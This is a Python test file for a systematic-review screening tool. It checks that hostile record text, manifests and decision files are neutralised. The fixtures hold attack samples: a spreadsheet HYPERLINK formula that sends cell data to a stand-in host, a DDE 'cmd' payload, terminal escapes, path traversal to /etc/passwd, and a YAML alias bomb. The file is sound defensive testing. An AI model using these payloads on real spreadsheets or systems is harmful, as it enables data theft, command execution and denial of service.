"""Hostile input: record text, manifests and decision files that must not hurt the reviewer,
their files or their spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from screenrev.console import clean
from screenrev.errors import InputError
from screenrev.records.parse import read_export
from screenrev.review.spreadsheet import neutralise, restore

from .conftest import DATA, invoke

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J"

HOSTILE_RIS = f"""TY  - JOUR
TI  - {FORMULA}
AU  - @Smith, J.
PY  - 2020
JO  - Journal of Tests
AB  - -1+1 is an abstract that starts like a formula.
ER  - 

TY  - JOUR
TI  - Depression in adolescents {ESCAPES}with a hidden title
AU  - +Jones, K.
PY  - 2021
JO  - Journal of Tests
AB  - An abstract {ESCAPES}about depression.
ER  - 

TY  - JOUR
TI  - An ordinary third record about anxiety
AU  - Brown, L.
PY  - 2019
JO  - Journal of Tests
AB  - Nothing special here.
ER  - 
"""


@pytest.fixture
def hostile(runner: CliRunner, review_dir: Path, tmp_path: Path) -> Path:
    export = tmp_path / "hostile.ris"
    export.write_text(HOSTILE_RIS, encoding="utf-8")
    invoke(runner, "import", str(export), "-d", "Hostile")
    return review_dir


def _keys(runner: CliRunner) -> list[str]:
    return [row["key"] for row in csv.DictReader(io.StringIO(invoke(runner, "export", "records").stdout))]


# --- 1. terminal escapes ---------------------------------------------------------------


def test_clean_shows_control_characters_visibly() -> None:
    assert clean("a\x1b[2Jb\x07c\x9bd\u202ee\tf\ng") == "a\u241b[2Jb\u2407c\ufffdd\ufffde\tf\ng"
    assert clean("plain text, accents: é ü ñ") == "plain text, accents: é ü ñ"


@pytest.mark.parametrize("command", [["rank"], ["review", "--reviewer", "AB"], ["status"], ["sources"]])
def test_no_escape_sequence_from_a_record_reaches_the_terminal(runner: CliRunner, hostile: Path,
                                                               command: list[str]) -> None:
    from screenrev.cli import app

    result = runner.invoke(app, command, input="q", catch_exceptions=False)
    assert result.exit_code == 0
    assert "\x1b]" not in result.stdout and "\x07" not in result.stdout and "\x1b[2J" not in result.stdout
    if command[0] in ("rank", "review"):
        assert "\u241b]0;owned" in result.stdout  # shown, not obeyed


# --- 2. spreadsheet formulas ------------------------------------------------------------


def test_neutralised_cells_read_back_as_written() -> None:
    for value in ["=1+1", "+44 20", "-x", "@SUM(A1)", "\tTab", "'quoted", "''", "'=x", "plain", "", "-0.52", "1e-5"]:
        assert restore(neutralise(value)) == value
    assert neutralise("-0.52") == "-0.52" and neutralise("=1+1") == "'=1+1" and neutralise("'a") == "''a"


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@") and not cell.lstrip("+-").replace(".", "", 1).isdigit()]


def test_every_csv_screenrev_writes_neutralises_formulas(runner: CliRunner, hostile: Path) -> None:
    keys = _keys(runner)
    invoke(runner, "decide", keys[0], "--decision", "include", "--reviewer", "=cmd|' /C calc'!A0",
           "--note", "@SUM(1+1)")
    invoke(runner, "decide", keys[1], "--decision", "include", "--reviewer", "=cmd|' /C calc'!A0")
    outputs = {
        "export records": invoke(runner, "export", "records").stdout,
        "export decisions": invoke(runner, "export", "decisions").stdout,
        "export included": invoke(runner, "export", "included", "--stage", "title_abstract", "--format", "csv").stdout,
        "screen --details": (invoke(runner, "screen", "--details", "details.csv") and
                             (hostile / "details.csv").read_text(encoding="utf-8")),
        "rank --out": (invoke(runner, "rank", "--out", "worklist.csv", "--reviewer", "=cmd|' /C calc'!A0") and
                       (hostile / "worklist.csv").read_text(encoding="utf-8")),
        "decision file": next((hostile / "decisions").glob("title_abstract-*.csv")).read_text(encoding="utf-8"),
    }
    for name, text in outputs.items():
        assert _formula_cells(text) == [], name
    assert "'=HYPERLINK" in outputs["export records"]
    # Read back, every value is what was written.
    decisions = list(csv.DictReader(io.StringIO(invoke(runner, "export", "decisions").stdout)))
    assert {restore(row["reviewer"]) for row in decisions} == {"=cmd|' /C calc'!A0"}
    assert restore(decisions[0]["note"]) == "@SUM(1+1)"
    assert invoke(runner, "flow", "--json").exit_code == 0


def test_the_duplicate_review_queue_round_trips_formula_like_titles(runner: CliRunner, review_dir: Path,
                                                                    tmp_path: Path) -> None:
    from .dedup.test_cli import PREPRINT_AND_ARTICLE

    title = "-Loneliness and depressive symptoms in older adults during the COVID-19 pandemic: a cohort study"
    export = tmp_path / "pair.ris"
    export.write_text(PREPRINT_AND_ARTICLE.replace("TI  - Loneliness", "TI  - -Loneliness"), encoding="utf-8")
    invoke(runner, "import", str(export), "-d", "medRxiv and Scopus")
    queue = review_dir / "decisions" / "queue.csv"
    assert json.loads(invoke(runner, "dedup", "--review", str(queue), "--json").stdout)["waiting"] == 1
    text = queue.read_text(encoding="utf-8")
    assert _formula_cells(text) == [] and f"'{title}" in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert restore(rows[0]["title_a"]) == title
    rows[0]["decision"] = "same"
    with queue.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    # Read back with its neutralised cells, the decision merges the pair.
    assert json.loads(invoke(runner, "dedup", "--review", str(queue), "--json").stdout)["duplicates"] == 1


# --- 3. the manifest stays inside the folder ---------------------------------------------


@pytest.mark.parametrize(("section", "old", "new"), [
    ("review", 'protocol = "protocol.yaml"', 'protocol = "/etc/passwd"'),
    ("review", 'decisions = "decisions"', 'decisions = "../../elsewhere"'),
])
def test_a_manifest_path_outside_the_folder_is_refused(runner: CliRunner, hostile: Path, section: str, old: str,
                                                       new: str) -> None:
    manifest = hostile / "screenrev.toml"
    text = manifest.read_text(encoding="utf-8")
    assert old in text
    manifest.write_text(text.replace(old, new), encoding="utf-8")
    result = invoke(runner, "flow", ok=False)
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert result.exit_code == 1 and len(errors) == 1
    assert "not a path inside the review folder" in errors[0] and f"[{section}]" in errors[0]


def test_a_search_file_outside_the_folder_is_refused(runner: CliRunner, hostile: Path) -> None:
    manifest = hostile / "screenrev.toml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(text.replace('file = "searches/hostile.ris"', 'file = "../../../../etc/hostname"'),
                        encoding="utf-8")
    (hostile / ".screenrev").rename(hostile / ".old-workspace")  # a fresh clone rebuilds from the files
    result = invoke(runner, "sources", ok=False)
    assert result.exit_code == 1 and "[[searches]] 'hostile' file" in result.stderr


def test_a_diagram_outside_the_folder_is_refused_and_nothing_is_written(runner: CliRunner, hostile: Path,
                                                                        tmp_path: Path) -> None:
    manifest = hostile / "screenrev.toml"
    manifest.write_text(manifest.read_text(encoding="utf-8") + '\n[flow]\ndiagram = "../outside.svg"\n',
                        encoding="utf-8")
    result = invoke(runner, "run", ok=False)
    assert result.exit_code == 1 and "[flow] diagram" in result.stderr
    assert not (tmp_path / "outside.svg").exists()


def test_a_protocol_linked_outside_the_folder_is_refused(runner: CliRunner, hostile: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.yaml"
    secret.write_text("criteria: []\n", encoding="utf-8")
    (hostile / "protocol.yaml").unlink()
    (hostile / "protocol.yaml").symlink_to(secret)
    result = invoke(runner, "screen", ok=False)
    assert result.exit_code == 1 and "[review] protocol" in result.stderr


# --- 6. decisions are neither lost nor contradicted --------------------------------------


def test_decide_file_outside_decisions_is_refused(runner: CliRunner, hostile: Path, tmp_path: Path) -> None:
    key = _keys(runner)[0]
    for target in (tmp_path / "mine.csv", hostile / "mine.csv", hostile / "decisions" / "mine.txt"):
        result = invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB", "--file", str(target),
                        ok=False)
        assert result.exit_code == 1 and "decisions are read from decisions/ only" in result.stderr
        assert not target.exists()
    inside = hostile / "decisions" / "team" / "mine.csv"
    invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB", "--file", str(inside))
    assert json.loads(invoke(runner, "flow", "--json").stdout)["records_screened"] == 1  # it counts


def test_a_second_process_deciding_the_same_record_differently_is_refused(runner: CliRunner, hostile: Path) -> None:
    from screenrev.decisions.stage import DecisionLog, default_file, primary_index
    from screenrev.errors import DecisionError
    from screenrev.records.workspace import Workspace
    from screenrev.review.folder import Review

    key, other = _keys(runner)[:2]
    review = Review.find(hostile)
    with Workspace.open(review) as workspace:
        log = DecisionLog(review, primary_index(workspace))  # read before the other process writes
    invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB")  # the other process
    file = default_file(review, "title_abstract", "AB")
    cells = {"key": key, "stage": "title_abstract", "decision": "exclude", "reason": "", "reviewer": "AB",
             "timestamp": "2024-01-01", "note": ""}
    with pytest.raises(DecisionError, match="in another screenrev meanwhile"):
        log.append([(cells, None)], file=file)
    # The same decision is not written twice, and a new record still goes in.
    assert log.append([({**cells, "decision": "include"}, None)], file=file) == []
    added = log.append([({**cells, "key": other}, None)], file=file)
    assert [d.key for d in added] == [other]
    rows = list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8"))))
    assert [(row["key"], row["decision"]) for row in rows] == [(key, "include"), (other, "exclude")]
    assert invoke(runner, "flow", "--json").exit_code == 0  # the folder stays usable


# --- everything at once -------------------------------------------------------------------


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40))
def test_any_text_goes_through_import_export_decide_and_flow_without_harm(runner: CliRunner, review_dir: Path,
                                                                         tmp_path_factory, text: str) -> None:
    folder = tmp_path_factory.mktemp("table")
    title = " ".join(text.split()) or "x"
    name = f"s{abs(hash(title)) % 10**8}"
    export = folder / f"{name}.csv"
    with export.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "title", "abstract", "label"])
        writer.writerow(["1", title, "An abstract.", "1"])
        writer.writerow(["2", "A second record", title, "0"])
    if "\x00" in title:  # a NUL byte marks a binary file: refused in one line, nothing imported
        refused = invoke(runner, "import", str(export), "-d", "Any", "--name", name, ok=False)
        assert refused.exit_code == 1 and "NUL" in refused.stderr and refused.stderr.count("\n") == 1
        return
    invoke(runner, "import", str(export), "-d", "Any", "--name", name)
    exported = invoke(runner, "export", "records").stdout
    rows = [row for row in csv.DictReader(io.StringIO(exported)) if row["search"] == name]
    assert len(rows) == 2  # nothing lost
    assert _formula_cells(exported) == []  # nothing a spreadsheet would run
    labels = folder / "labels.csv"
    with labels.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["id", "label", "note"], ["1", "1", title]])
    invoke(runner, "decide", "--from", str(labels), "--search", name, "--reviewer", name, "--note-column", "note")
    decisions = list(csv.DictReader(io.StringIO(invoke(runner, "export", "decisions").stdout)))
    assert title in {restore(row["note"]) for row in decisions}  # the note comes back as typed
    assert invoke(runner, "flow", "--json").exit_code == 0
    assert sorted(path.name for path in review_dir.parent.iterdir()) == ["review"]  # nothing written beside it


# --- 4. rule matching in time linear in the text -----------------------------------------


def _near_by_scanning(first, second, distance, folded):
    """NEAR as it was defined before counting words by bisection: every pair, scanning the text between."""
    import re

    from screenrev.rules.terms import word_end

    pairs = []
    for a in first:
        for b in second:
            left, right = (a, b) if a[0] <= b[0] else (b, a)
            left_end = word_end(folded, left[1])
            if right[0] < left_end:
                continue
            if len(re.compile(r"\w+").findall(folded, left_end, right[0])) <= distance:
                pairs.append((left[0], max(left_end, word_end(folded, right[1]))))
    return pairs


@settings(max_examples=200, deadline=None)
@given(words=st.lists(st.sampled_from(["child", "children", "care", "x", "child care"]), max_size=60),
       distance=st.integers(min_value=0, max_value=6))
def test_near_gives_the_pairs_every_pair_scan_gives(words: list[str], distance: int) -> None:
    import re

    from screenrev.rules.terms import near

    folded = " ".join(words)
    first = [m.span() for m in re.finditer(r"\bchild", folded)]
    second = [m.span() for m in re.finditer(r"\bcare\b", folded)]
    assert near(first, second, distance, folded) == _near_by_scanning(first, second, distance, folded)
    expected = _near_by_scanning(first, second, distance, folded)[:1]
    assert near(first, second, distance, folded, first_only=True) == expected


def test_a_repetitive_abstract_is_screened_and_its_evidence_is_the_first_pair(tmp_path: Path) -> None:
    from screenrev.rules.engine import Screener
    from screenrev.rules.protocol import load_protocol

    path = tmp_path / "near.yaml"
    path.write_text("criteria:\n  - id: near\n    label: Near\n    any: ['word* NEAR/50 word*']\n", encoding="utf-8")
    screener = Screener(load_protocol(path))
    outcome = screener.outcomes({"key": "k", "title": "A title", "abstract": " ".join(["word"] * 20_000)})[0]
    assert outcome.outcome == "exclude" and "word word" in outcome.evidence


# --- 5. limits that say what was exceeded --------------------------------------------------

ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{previous}'] * 9) if previous else ', '.join(['lol'] * 9)}]\n"
    for previous, name in zip(["", "a", "b", "c", "d", "e", "f", "g"], "abcdefgh")
)


@pytest.mark.parametrize(("text", "message"), [
    ("[" * 100_000, "nested 100,000 deep"),
    ("".join("  " * depth + "-\n" for depth in range(3000)), "nested too deep"),
    ("criteria:\n  - id: old\n    label: Old\n    field: year\n    at_most: " + "9" * 5000 + "\n",
     "a number of 5,000 characters"),
    (ALIAS_BOMB, "aliases (*name) repeat the same values"),
])
def test_a_hostile_protocol_is_one_line_naming_the_limit(runner: CliRunner, tmp_path: Path, text: str,
                                                         message: str) -> None:
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    result = invoke(runner, "rules", "check", str(path), ok=False)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1 and message in result.stderr


def test_a_large_protocol_of_plain_terms_is_read(runner: CliRunner, tmp_path: Path) -> None:
    terms = "".join(f"      - term{number} word{number}\n" for number in range(40_000))
    path = tmp_path / "large.yaml"
    path.write_text("criteria:\n  - id: many\n    label: Many terms\n    any:\n" + terms, encoding="utf-8")
    assert invoke(runner, "rules", "check", str(path)).exit_code == 0


# --- 7. exports cut off ---------------------------------------------------------------------


def test_a_ris_file_whose_only_record_has_no_er_is_a_risk(tmp_path: Path) -> None:
    data = b"TY  - JOUR\nTI  - A title cut off in the mid"
    with pytest.raises(InputError, match="the file ends inside this record"):
        read_export("cut.ris", data)
    assert len(read_export("cut.ris", data, accept_risks=True).records) == 1


def test_an_endnote_export_cut_in_its_last_record_says_so() -> None:
    data = (DATA / "endnote_tagged" / "ais_enl.txt").read_bytes()
    assert not any("cut off" in warning for warning in read_export("whole.txt", data).warnings)
    cut = data[: data.index(b"%A", data.rindex(b"%0 ")) + 6]  # the last record cut in its first author
    parsed = read_export("cut.txt", cut)
    assert any("the file ends in the middle of a line" in warning and "cut off" in warning
               for warning in parsed.warnings)


def _cut_off(warnings: list[str]) -> bool:
    return any("cut off" in warning for warning in warnings)


@pytest.mark.parametrize(("fixture", "cut_after"), [
    ("endnote_tagged/refer.bibIX.ref", b"%X Abstr"),
    ("ovid/OvidImporterTest5.txt", b"  Lorem ips"),
    ("medline/eric_nbib.nbib", b"AB  - Abstr"),
])
def test_an_export_cut_mid_line_in_its_first_record_says_so(fixture: str, cut_after: bytes) -> None:
    data = (DATA / fixture).read_bytes()
    assert not _cut_off(read_export("whole", data).warnings)
    parsed = read_export("cut", data[: data.index(cut_after) + len(cut_after)])
    assert len(parsed.records) == 1 and _cut_off(parsed.warnings)


def test_an_export_cut_between_two_lines_lacks_the_line_every_other_record_ends_with() -> None:
    data = (DATA / "endnote_tagged" / "refer.bibIX.ref").read_bytes()  # every record ends with %D
    cut = data[: data.rindex(b"\n%D ") + 1]
    assert any("no %D line" in warning and "cut off" in warning for warning in read_export("cut", cut).warnings)


def test_an_eric_record_cut_before_its_publication_types_says_so() -> None:
    data = (DATA / "medline" / "eric_nbib.nbib").read_bytes()
    assert _cut_off(read_export("cut", data[: data.index(b"\nPT  - ") + 1]).warnings)


def test_a_crlf_export_cut_between_cr_and_lf_says_so() -> None:
    data = (DATA / "endnote_tagged" / "ais_enl.txt").read_bytes().replace(b"\n", b"\r\n")
    assert not _cut_off(read_export("whole", data).warnings)
    cut = data[: data.index(b"\r\n", data.rindex(b"%A ")) + 1]
    assert _cut_off(read_export("cut", cut).warnings)


def test_a_continuation_line_cut_in_its_indentation_says_so() -> None:
    text = "PMID- 1\nTI  - A title\nAB  - An abstract that goes on\n      over a second line\nAU  - Smith J\n"
    assert not _cut_off(read_export("whole", text.encode()).warnings)
    assert _cut_off(read_export("cut", text[: text.index("      over") + 3].encode()).warnings)


def test_a_pubmed_export_without_its_final_line_break_is_not_taken_for_a_cut_one() -> None:
    data = (DATA / "medline" / "pubmed-balloongui-set-first3.nbib").read_bytes()  # ends with SO, whole
    assert read_export("whole", data.rstrip()).warnings == []


def test_a_ris_export_without_er_lines_cut_in_its_last_record_says_so() -> None:
    records = [f"TY  - JOUR\nTI  - Title {n}\nAU  - Smith, J\nAB  - An abstract of record {n}.\n" for n in (1, 2, 3)]
    text = "\n".join(records)
    assert not _cut_off(read_export("whole.ris", text.encode()).warnings)
    assert _cut_off(read_export("cut.ris", text[: text.rindex("abstract")].encode()).warnings)


def test_a_csv_export_cut_right_after_a_delimiter_says_so() -> None:
    data = (DATA / "table" / "pubmed_csv.csv").read_bytes()
    assert read_export("whole.csv", data).warnings == []
    assert _cut_off(read_export("cut.csv", data[: data.rindex(b",") + 1]).warnings)


def test_a_bibtex_entry_read_line_by_line_and_cut_before_its_closing_brace_is_refused() -> None:
    data = (DATA / "bibtex" / "ebsco_bib.bib").read_bytes()  # its last entry's braces do not balance
    assert len(read_export("whole.bib", data).records) == 2
    with pytest.raises(InputError, match="the file ends inside this @article entry"):
        read_export("cut.bib", data[: data.rindex(b"}")])


def test_a_last_record_with_nothing_after_its_header_says_so() -> None:
    text = "<1. >\nTI  - A title\nSO  - A journal\n\n<2. >\n"
    assert _cut_off(read_export("cut.txt", text.encode()).warnings)


# --- 8. smaller points ----------------------------------------------------------------------


def test_an_export_edited_or_missing_since_import_is_noticed_by_every_command(runner: CliRunner,
                                                                            hostile: Path) -> None:
    export = hostile / "searches" / "hostile.ris"
    assert invoke(runner, "flow", "--json").exit_code == 0
    original = export.read_bytes()
    export.write_bytes(original.replace(b"Journal of Tests", b"Journal of Fakes"))
    result = invoke(runner, "flow", ok=False)
    assert result.exit_code == 1 and "changed since it was imported" in result.stderr
    export.write_bytes(original)  # restored (its time changed, its bytes are the same)
    assert invoke(runner, "flow", "--json").exit_code == 0
    export.unlink()
    result = invoke(runner, "status", ok=False)
    assert result.exit_code == 1 and "is missing" in result.stderr


def test_copies_in_searches_are_as_readable_as_the_umask_says(hostile: Path) -> None:
    import os

    from screenrev.review.atomic import umask

    assert (hostile / "searches" / "hostile.ris").stat().st_mode & 0o777 == 0o666 & ~umask()
    assert os.access(hostile / "searches" / "hostile.ris", os.R_OK)


def test_a_semicolon_decision_file_is_refused_with_a_hint(runner: CliRunner, hostile: Path) -> None:
    key = _keys(runner)[0]
    (hostile / "decisions" / "excel.csv").write_text(
        f"key;stage;decision;reason;reviewer;timestamp;note\n{key};title_abstract;include;;AB;2024-01-01;\n",
        encoding="utf-8")
    result = invoke(runner, "flow", ok=False)
    assert result.exit_code == 1 and "separated by semicolons" in result.stderr


def test_export_included_takes_bibtex_as_well_as_bib(runner: CliRunner, hostile: Path) -> None:
    key = _keys(runner)[2]
    invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB")
    bib = invoke(runner, "export", "included", "--stage", "title_abstract", "--format", "bib").stdout
    assert invoke(runner, "export", "included", "--stage", "title_abstract", "--format", "bibtex").stdout == bib


GARBAGE = {
    "random bytes": lambda size: random.Random(1).randbytes(size),
    "random bytes without NUL": lambda size: random.Random(1).randbytes(size).replace(b"\0", b"\1"),
    "one line": lambda size: b"abcdefghij" * (size // 10),
    "lines of prose": lambda size: b"lorem ipsum dolor sit amet, in no format at all\n" * (size // 48),
}


@pytest.mark.parametrize("kind", GARBAGE)
def test_garbage_is_refused_from_its_first_megabyte(kind: str, review_dir: Path, tmp_path: Path) -> None:
    import tracemalloc

    from screenrev.records.stage import import_files
    from screenrev.review.folder import Review

    size = 40_000_000
    export = tmp_path / "garbage.txt"
    export.write_bytes(GARBAGE[kind](size))
    tracemalloc.start()
    try:
        with pytest.raises(InputError, match="NUL bytes|invalid UTF-8|format not recognised"):
            import_files(Review.find(review_dir), [export], database="Garbage")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < size / 4, f"{peak:,} bytes at the peak for {size:,} bytes of garbage"
